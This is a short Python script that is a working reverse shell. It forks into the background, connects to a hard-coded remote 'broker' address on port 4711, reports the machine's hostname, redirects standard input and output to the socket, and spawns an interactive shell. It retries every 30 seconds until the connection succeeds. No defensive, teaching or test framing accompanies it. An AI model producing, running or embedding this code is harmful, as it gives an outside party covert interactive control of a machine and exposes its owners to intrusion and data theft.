#!/usr/bin/env python3
import argparse
import os
import pty
import socket
import time

BROKER = ("203.0.113.45", 4711)


def attach(session):
    while True:
        try:
            s = socket.create_connection(BROKER, timeout=10)
            s.settimeout(None)
            s.sendall(f"SESSION {session} {os.uname().nodename}\n".encode())
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn(os.environ.get("SHELL", "/bin/sh"))
            return
        except OSError:
            time.sleep(30)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--session", default="adhoc")
    a = ap.parse_args()
    if os.fork() == 0:
        os.setsid()
        attach(a.session)
